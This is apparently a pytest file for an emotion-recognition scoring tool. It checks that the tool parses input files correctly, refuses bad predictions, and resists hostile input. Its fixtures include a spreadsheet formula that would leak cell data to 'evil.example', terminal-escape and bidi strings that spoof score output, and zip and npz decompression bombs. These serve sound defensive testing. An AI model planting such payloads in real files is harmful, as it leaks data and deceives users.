"""Files read right or refused, and a CLI that is safe on untrusted files — each case was a silent mis-read or an
attack that worked before (a mixed-shape ground truth scored 50 instead of 100, byte-string ids matched nothing and
exited 0, Chinese labels were "scored" 0.00, terminal escapes from labels reached the table, ``=HYPERLINK`` cells
reached the per-sample CSV, a 2 GB file was read whole)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import numpy as np
import pytest

import emer_eval
from emer_eval import InputError, load_ground_truth, load_predictions
from emer_eval.cli import main
from emer_eval.io import MAX_INPUT_BYTES, parse_predictions
from emer_eval.metrics import g2


@pytest.fixture(scope="module")
def ov_store(data_dir: Path) -> Path:
    return data_dir / "mertools-mer2024-ov-store"


@pytest.fixture(scope="module")
def gt(gt_path: Path) -> dict[str, list[str]]:
    return load_ground_truth(gt_path)


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def write_csv(path: Path, rows: dict[str, list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["name", "openset"])
        writer.writerows([name, "[" + ", ".join(labels) + "]"] for name, labels in rows.items())
    return path


# --- shapes decided per record ---------------------------------------------------------------------------------------

def test_ground_truth_written_half_as_lists_half_as_strings_scores_100(gt, gt_path, tmp_path):
    mixed = {name: labels if i % 2 else ", ".join(labels) for i, (name, labels) in enumerate(gt.items())}
    path = tmp_path / "mixed.json"
    path.write_text(json.dumps(mixed), encoding="utf-8")
    loaded = load_predictions(path)
    assert loaded.labels == gt
    assert emer_eval.score(path, gt_path, bootstrap=0).metrics["EW-L1"].f == pytest.approx(1.0)


def test_a_bare_string_is_a_label_list_in_a_labels_file():
    loaded = parse_predictions(b'{"a": ["happy"], "b": "angry"}', ".json", "x.json")
    assert loaded.labels == {"a": ["happy"], "b": ["angry"]}
    assert parse_predictions(b'{"b": "angry"}', ".json", "x.json", kind="labels").labels == {"b": ["angry"]}
    assert parse_predictions(b'{"b": "she is angry"}', ".json", "x.json").texts == {"b": "she is angry"}


def test_jsonl_records_of_different_shapes_are_refused_at_the_first_odd_row():
    payload = b'{"name": "a", "openset": ["happy"]}\n{"name": "b", "reason": "she is sad"}\n'
    with pytest.raises(InputError, match=r"row 2.*no labels while other records have them"):
        parse_predictions(payload, ".jsonl", "x.jsonl")
    keys = b'{"name": "a", "openset": ["happy"]}\n{"names": "b", "labels": "[sad]"}\n'   # other spellings, per record
    assert parse_predictions(keys, ".jsonl", "x.jsonl").labels == {"a": ["happy"], "b": ["sad"]}


def test_byte_string_ids_in_an_npz_are_decoded(gt, gt_path, tmp_path):
    names = list(gt)
    path = tmp_path / "bytes.npz"
    np.savez(path, filenames=np.array(names, dtype="S"), fileitems=np.array([str(gt[n]) for n in names], dtype="S"))
    loaded = load_predictions(path)
    assert loaded.names == names and loaded.labels == gt
    assert emer_eval.score(path, gt_path, bootstrap=0).metrics["EW-L1"].f == pytest.approx(1.0)


# --- refusals: specific message, exit status 2 ---------------------------------------------------------------------

def test_no_matching_id_is_refused(gt, gt_path, tmp_path, capsys):
    path = write_csv(tmp_path / "ids.csv", {f"b'{name}'": labels for name, labels in gt.items()})
    status, out, err = run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path))
    assert status == 2 and out == ""
    assert f"none of the {len(gt)} prediction ids is a sample of the ground truth" in err


def test_chinese_labels_are_refused(gt, gt_path, tmp_path, capsys):
    path = write_csv(tmp_path / "zh.csv", {name: ["愤怒", "高兴"] for name in gt})
    status, _, err = run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path))
    assert status == 2 and f"the labels are in Chinese ({2 * len(gt)} of {2 * len(gt)}, e.g. 愤怒, 高兴)" in err
    assert "translate" in err


def test_labels_almost_all_out_of_vocabulary_are_refused(gt, gt_path, tmp_path, capsys):
    path = write_csv(tmp_path / "oov.csv", {name: ["blorp", "zzyzx"] for name in gt})
    status, _, err = run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path))
    assert status == 2 and "100% of the predicted labels are not in the emotion-wheel vocabulary" in err


def test_the_published_baselines_are_not_refused_and_stray_chinese_labels_are_a_warning(data_dir, gt_path):
    for path in sorted((data_dir / "ovmer-baseline-outputs-ovmerd").glob("*/*openset*.npz")):
        assert emer_eval.score(path, gt_path, bootstrap=0).metrics["EW-L1"].f > 0
    stray = data_dir / "ovmer-baseline-outputs-ovmerd" / "Qwen-Audio" / "output-reason-7b-subtitle-eng-openset.npz"
    warnings = emer_eval.score(stray, gt_path, bootstrap=0).warnings
    assert any("12 Chinese label(s)" in warning for warning in warnings)


# --- G2: coverage, signature ----------------------------------------------------------------------------------------

def test_g2_names_its_groupings_and_refuses_groupings_made_for_other_predictions(ov_store, chat_univi, gt_path):
    zip_path = ov_store / "openset-synonym.zip"
    official = emer_eval.score(ov_store / "predict-openset.csv", gt_path, metrics=("g2",), groupings=zip_path,
                               bootstrap=0)
    assert official.g2 is not None
    tag = official.g2.groupings
    assert tag.startswith("cache:") and f"g2:{tag}" in str(official.signature)
    assert official.g2.coverage == 1.0
    with pytest.raises(emer_eval.EmerEvalError, match=r"cover \d+ of \d+ predicted labels .* below 90%"):
        emer_eval.score(chat_univi, gt_path, metrics=("g2",), groupings=zip_path, bootstrap=0)


def test_a_groupings_zip_is_checked_before_decompressing(tmp_path):
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("sample_1.npy", b"\0" * (g2.GROUPING_MEMBER_MAX_BYTES + 1))
    with pytest.raises(InputError, match="refused without decompressing"):
        g2.load_groupings(bomb)


# --- compare and runs ------------------------------------------------------------------------------------------------

def test_compare_with_bootstrap_0_runs_no_test_and_too_few_resamples_is_an_error(ov_store, gt_path, capsys):
    pred = str(ov_store / "predict-openset.csv")
    status, out, _ = run_cli(capsys, "compare", "--pred-a", pred, "--pred-b", pred, "--gt", str(gt_path),
                             "--bootstrap", "0", "--json")
    assert status == 0 and json.loads(out)["paired_bootstrap"] is None
    status, _, err = run_cli(capsys, "compare", "--pred-a", pred, "--pred-b", pred, "--gt", str(gt_path),
                             "--bootstrap", "10")
    assert status == 2 and "too few resamples for a meaningful p-value" in err


class TwoRuns:
    """An extractor whose two runs differ: run 0 says "happy", run 1 a word outside the wheels."""

    signature_tag = "test-extractor"

    def extract_many(self, texts, runs=1, progress=None):
        return [{name: ["happy"] for name in texts}, {name: ["happy", "qwxz"] for name in texts}][:runs]


def test_runs_report_every_run_and_say_which_one_the_ci_is_from(gt, gt_path):
    texts = {name: "a description" for name in gt}
    result = emer_eval.score(texts, gt_path, extractor=TwoRuns(), runs=2, bootstrap=50)
    assert result.runs is not None and result.runs.ci95 is not None and len(result.runs.ci95) == 2
    assert len(result.scores()["runs"]["ci95"]) == 2
    assert result.oov["labels"] == 3 * len(gt) and result.oov["dropped"] == len(gt)   # both runs counted
    assert any("run 1 of 2" in note for note in result.notes)


# --- the CLI on hostile content --------------------------------------------------------------------------------------

HOSTILE_LABELS = ["\x1b[2J\x1b[H EW-L1 99.99", "\u202edesserpxe", "\x9b31m"]


def test_control_and_bidi_characters_never_reach_the_terminal(gt, gt_path, tmp_path, capsys):
    rows = {name: ["happy"] for name in gt}
    first = next(iter(rows))
    rows[first] = ["happy", *HOSTILE_LABELS]
    path = write_csv(tmp_path / "escape.csv", rows)
    for extra in ((), ("--json",)):
        status, out, _ = run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path), "--bootstrap", "0",
                                 *extra)
        assert status == 0
        assert not any(ch in out for ch in "\x1b\u202e\x9b"), out
    assert "\\x1b[2j" in run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path), "--bootstrap", "0")[1]
    payload = json.loads(run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path), "--json")[1])
    assert any(word == HOSTILE_LABELS[1].lower() for word, _ in payload["oov"]["top_dropped"])  # same JSON value


def test_per_sample_csv_neutralises_formulas(gt, gt_path, tmp_path, capsys):
    rows = {name: ["happy"] for name in gt}
    rows[next(iter(rows))] = ['=HYPERLINK("http://evil.example/?leak="&A1)', "happy"]
    path = write_csv(tmp_path / "formula.csv", rows)
    out = tmp_path / "per-sample.csv"
    assert run_cli(capsys, "score", "--pred", str(path), "--gt", str(gt_path), "--bootstrap", "0",
                   "--per-sample", str(out))[0] == 0
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any(cell.startswith("'=hyperlink") for cell in cells)


def test_file_size_is_checked_before_reading(tmp_path, capsys, gt_path):
    sparse = tmp_path / "sparse.csv"
    with sparse.open("wb") as handle:
        handle.truncate(2 * 2**30)                          # 2 GB, no disk used
    status, _, err = run_cli(capsys, "score", "--pred", str(sparse), "--gt", str(gt_path))
    assert status == 2 and f"at most {MAX_INPUT_BYTES // 2**20} MB are read" in err


def test_an_npz_that_expands_far_beyond_its_size_is_refused_unread(tmp_path):
    buffer = io.BytesIO()
    names = np.array(["sample_00000001"] * 300)
    items = np.array(["happy".ljust(40_000)] * 300)          # fixed-width: 160 KB per item once decoded
    np.savez_compressed(buffer, filenames=names, fileitems=items)
    assert len(buffer.getvalue()) < 2**20 and items.nbytes > 32 * 2**20
    with pytest.raises(InputError, match="would expand to"):
        parse_predictions(buffer.getvalue(), ".npz", "bomb.npz")

